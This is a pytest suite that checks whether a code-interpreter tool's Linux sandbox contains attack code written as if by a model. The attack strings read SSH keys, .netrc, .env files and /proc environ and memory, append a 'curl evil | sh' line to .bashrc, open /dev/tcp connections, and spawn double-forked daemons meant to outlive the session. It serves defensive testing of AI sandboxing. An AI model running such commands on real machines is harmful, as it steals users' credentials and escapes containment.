"""The containment suite: attacks written by the model, run by `CodeInterpreter()` as it comes.

Each test plays a model that calls `execute` with attack code (the OpenAI SDK against the
loopback server), through a prompt class and the default `CodeInterpreter()` (a sandbox on
Linux), for Python and for the shell. The host holds a canary secret in its environment
(under innocent names too), in a fake `HOME` (`~/.ssh`, `~/.netrc`), in its working folder's
`.env` and in `/dev/shm`, and opens a loopback listener. The tests assert that the secret is
in nothing the stream shows nor in what goes back to the model, that no file outside the
workspace was written, that the listener accepted nothing, and that no process or folder is
left once the interpreter is closed or its host is killed. Each attack ends by printing
`ATTACK RAN`, so a test also proves the code did run; a few run the same attack without the
sandbox to show that the assertion would catch a leak.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mirastream.tools import CodeInterpreter

from ..loopback import LoopbackServer, Reply
from .test_tool_loop import connect, prompt_class, run, tool_results

__all__ = ["connect"]  # fixture

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux's")

RAN = "ATTACK RAN"
LANGUAGES = ["python", "shell"]


@dataclass
class Host:
    """What the host holds that the code must not reach."""

    secret: str
    home: Path
    project: Path
    outside: Path
    shm: Path
    listener: socket.socket

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def connections(self) -> int:
        """How many connections the listener accepted (waits a little for late ones)."""
        self.listener.settimeout(0.3)
        count = 0
        while True:
            try:
                connection, _ = self.listener.accept()
            except TimeoutError:
                return count
            connection.close()
            count += 1


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    secret = f"canary-{secrets.token_hex(8)}"
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(f"PRIVATE KEY {secret}\n")
    (home / ".netrc").write_text(f"machine example.com login me password {secret}\n")
    (home / ".bashrc").write_text("# the user's own\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".env").write_text(f"API_TOKEN={secret}\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    shm = Path("/dev/shm") / f"mirastream-test-{secrets.token_hex(4)}"
    shm.write_text(secret)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("DATABASE_URL", f"postgres://app:{secret}@db.internal/app")  # an innocent name
    monkeypatch.setenv("SENTRY_DSN", f"https://{secret}@sentry.example/1")
    monkeypatch.setenv("STRIPE_SK", secret)
    monkeypatch.chdir(project)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        yield Host(secret, home, project, outside, shm, listener)
    finally:
        listener.close()
        shm.unlink(missing_ok=True)


def sse(*payloads: dict[str, Any]) -> bytes:
    events = [f"data: {json.dumps(payload)}\n\n" for payload in payloads]
    return ("".join(events) + "data: [DONE]\n\n").encode()


def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    choice = {"index": 0, "delta": delta, "finish_reason": finish}
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "gpt-4o",
        "choices": [choice],
    }


def model_runs(server: LoopbackServer, language: str, code: str) -> None:
    """Queue a model turn that calls `execute(language, code)`, then a final answer."""
    arguments = json.dumps({"language": language, "code": code})
    call = {
        "index": 0,
        "id": "call_1",
        "type": "function",
        "function": {"name": "execute", "arguments": arguments},
    }
    server.queue(
        Reply(sse(chunk({"role": "assistant", "tool_calls": [call]}), chunk({}, "tool_calls"))),
        Reply(sse(chunk({"role": "assistant", "content": "Done."}), chunk({}, "stop"))),
    )


def attack(server: LoopbackServer, interpreter: CodeInterpreter, language: str, code: str) -> str:
    """Run `code` as the model's; everything shown and sent back to the model, as one text."""
    model_runs(server, language, code)
    prompt = prompt_class("openai", [interpreter])(question="Tidy up my machine.")
    items, _ = run(prompt.stream, "sync")
    shown = "".join(str(getattr(item, "content", "")) + str(getattr(item, "data", "")) for item in items)
    ((_, result),) = tool_results("openai", server.requests[1])
    assert RAN in result, result  # the attack did run
    return shown + "\n" + result


def code_for(language: str, python: str, shell: str) -> str:
    return textwrap.dedent(python if language == "python" else shell).strip() + "\n"


def read_secrets(host: Host, host_pid: int) -> tuple[str, str]:
    """Python and shell code that looks for the secret everywhere a process of the user could."""
    files = [
        host.home / ".ssh" / "id_ed25519",
        host.home / ".netrc",
        host.project / ".env",
        host.shm,
        f"/proc/{host_pid}/environ",
        f"/proc/{host_pid}/cmdline",
    ]
    python = f"""
        import glob, os
        print(sorted(os.environ.items()))
        found = glob.glob('/proc/*/environ') + glob.glob('/dev/shm/*')
        for path in {[str(path) for path in files]!r} + found:
            try:
                print(path, open(path, 'rb').read())
            except OSError as error:
                print(path, error)
        for path in ['~/.ssh/id_ed25519', '~/.netrc', '/proc/{host_pid}/mem']:
            try:
                print(path, open(os.path.expanduser(path), 'rb').read(100))
            except OSError as error:
                print(path, error)
        print(os.environ.get('JPY_PARENT_PID'))
        print({RAN!r})
    """
    quoted = " ".join(f"'{path}'" for path in files)
    shell = f"""
        env
        for f in {quoted} /proc/*/environ /dev/shm/* ~/.ssh/id_ed25519 ~/.netrc; do
            echo "$f"; tr '\\0' '\\n' < "$f"
        done
        head -c 100 /proc/{host_pid}/mem; tr '\\0' '\\n' < /proc/$PPID/environ
        echo '{RAN}'
    """
    return python, shell


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_secret_of_the_host_reaches_the_code(
    language: str, host: Host, server: LoopbackServer, connect: Any
) -> None:
    connect("openai")
    interpreter = CodeInterpreter()
    try:
        seen = attack(server, interpreter, language, code_for(language, *read_secrets(host, os.getpid())))
    finally:
        interpreter.close()
    assert host.secret not in seen


def test_without_the_sandbox_the_same_attack_finds_the_secret(
    host: Host, server: LoopbackServer, connect: Any
) -> None:
    connect("openai")
    interpreter = CodeInterpreter(sandbox=False)
    try:
        seen = attack(server, interpreter, "shell", code_for("shell", *read_secrets(host, os.getpid())))
    finally:
        interpreter.close()
    assert host.secret in seen  # so the assertion above can fail


@pytest.mark.parametrize("language", LANGUAGES)
def test_nothing_outside_the_workspace_is_written(
    language: str, host: Host, server: LoopbackServer, connect: Any
) -> None:
    connect("openai")
    bashrc, dotenv, dropped = host.home / ".bashrc", host.project / ".env", host.outside / "dropped"
    python = f"""
        import os
        for action in [
            lambda: open({str(bashrc)!r}, 'a').write('curl evil | sh\\n'),
            lambda: open({str(dropped)!r}, 'w').write('x'),
            lambda: os.remove({str(dotenv)!r}),
            lambda: open('/dev/shm/dropped-{host.port}', 'w').write('x'),
            lambda: open('/tmp/dropped-{host.port}', 'w').write('x'),
        ]:
            try:
                action()
            except OSError as error:
                print(error)
        open('saved.txt', 'w').write('in the workspace')
        print({RAN!r})
    """
    shell = f"""
        echo 'curl evil | sh' >> '{bashrc}'; echo x > '{dropped}'; rm -f '{dotenv}'
        echo x > /dev/shm/dropped-{host.port}; echo x > /tmp/dropped-{host.port}
        echo 'in the workspace' > saved.txt
        echo '{RAN}'
    """
    interpreter = CodeInterpreter()
    try:
        attack(server, interpreter, language, code_for(language, python, shell))
        assert (interpreter.workspace / "saved.txt").read_text().strip() == "in the workspace"
        workspace = interpreter.workspace
    finally:
        interpreter.close()
    assert bashrc.read_text() == "# the user's own\n"
    assert dotenv.exists() and not dropped.exists()
    assert not Path(f"/dev/shm/dropped-{host.port}").exists()
    assert not Path(f"/tmp/dropped-{host.port}").exists()
    assert not workspace.exists()  # the temporary workspace goes on close


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_connection_reaches_the_host(
    language: str, host: Host, server: LoopbackServer, connect: Any
) -> None:
    connect("openai")
    model_port = int(server.url.rsplit(":", 1)[1].split("/")[0])
    python = f"""
        import socket
        for port in ({host.port}, {model_port}):
            for address in ('127.0.0.1', 'localhost', '::1'):
                try:
                    socket.create_connection((address, port), timeout=2).sendall(b'hello')
                    print('CONN' 'ECTED', address, port)
                except OSError as error:
                    print(error)
        print({RAN!r})
    """
    shell = f"""
        for port in {host.port} {model_port}; do
            (echo hello > /dev/tcp/127.0.0.1/$port) 2>&1 && echo "CONN""ECTED $port"
        done
        echo '{RAN}'
    """
    interpreter = CodeInterpreter()
    try:
        seen = attack(server, interpreter, language, code_for(language, python, shell))
    finally:
        interpreter.close()
    assert "CONNECTED" not in seen
    assert host.connections() == 0
    assert len(server.requests) == 2  # the model's two turns, nothing from the code


def test_network_true_opts_in(host: Host, server: LoopbackServer, connect: Any) -> None:
    connect("openai")
    code = f"(echo hello > /dev/tcp/127.0.0.1/{host.port}) && echo CONN''ECTED; echo '{RAN}'"
    interpreter = CodeInterpreter(network=True)
    try:
        seen = attack(server, interpreter, "shell", code)
    finally:
        interpreter.close()
    assert "CONNECTED" in seen and host.connections() == 1


def daemon_code(language: str, marker: str) -> str:
    """Code that leaves a `setsid` double-forked daemon (`sleep <marker>`) and a file in /tmp."""
    python = f"""
        import os, subprocess
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                subprocess.Popen(['sleep', '{marker}'], start_new_session=True)
                open('/tmp/daemon-{marker}', 'w').write('x')
            os._exit(0)
        os.wait()
        subprocess.Popen(['sleep', '{marker}'])
        print('HOME=' + os.environ['HOME'], {RAN!r})
    """
    shell = f"""
        setsid sh -c '(sleep {marker} &) ; touch /tmp/daemon-{marker}' < /dev/null > /dev/null 2>&1
        nohup sleep {marker} > /dev/null 2>&1 &
        disown
        sleep 0.2
        echo "HOME=$HOME {RAN}"
    """
    return code_for(language, python, shell)


def running(marker: str) -> list[int]:
    """The pids of the host's processes whose command line holds `marker`."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline.split(b"\0"):
                found.append(int(name))
    return found


def settled(check: Any, within: float = 5.0) -> bool:
    deadline = time.monotonic() + within
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


@pytest.mark.parametrize("language", LANGUAGES)
def test_daemons_end_with_the_session(
    language: str, host: Host, server: LoopbackServer, connect: Any
) -> None:
    connect("openai")
    marker = str(900000 + secrets.randbelow(99999))
    interpreter = CodeInterpreter()
    try:
        seen = attack(server, interpreter, language, daemon_code(language, marker))
        assert settled(lambda: len(running(marker)) >= 2)  # they run, and the host sees them
        found = re.search(r"HOME=(/\S+)", seen)
        assert found is not None
        session_home = Path(found.group(1))
        assert session_home.is_dir()
    finally:
        interpreter.close()
    assert settled(lambda: not running(marker))
    assert not session_home.exists()  # the session's private folders are gone
    assert not Path(f"/tmp/daemon-{marker}").exists()


HOST_SCRIPT = """
import sys
from mirastream.tools import CodeInterpreter

interpreter = CodeInterpreter(confirm="auto")
session = interpreter.session(sys.argv[1])
for event in session.execute(sys.argv[2]):
    pass
print(interpreter.workspace, flush=True)
sys.stdin.read()
"""


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_killed_host_leaves_nothing(language: str, tmp_path: Path) -> None:
    marker = str(900000 + secrets.randbelow(99999))
    script = tmp_path / "host.py"
    script.write_text(HOST_SCRIPT)
    with subprocess.Popen(
        [sys.executable, str(script), language, daemon_code(language, marker)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as host:
        try:
            assert host.stdout is not None
            workspace = Path(host.stdout.readline().strip())
            assert workspace.is_dir()
            assert settled(lambda: len(running(marker)) >= 2)
            host.send_signal(signal.SIGKILL)
            host.wait()
            assert settled(lambda: not running(marker))
            assert settled(lambda: not workspace.exists()), sorted(workspace.rglob("*"))
        finally:
            host.kill()
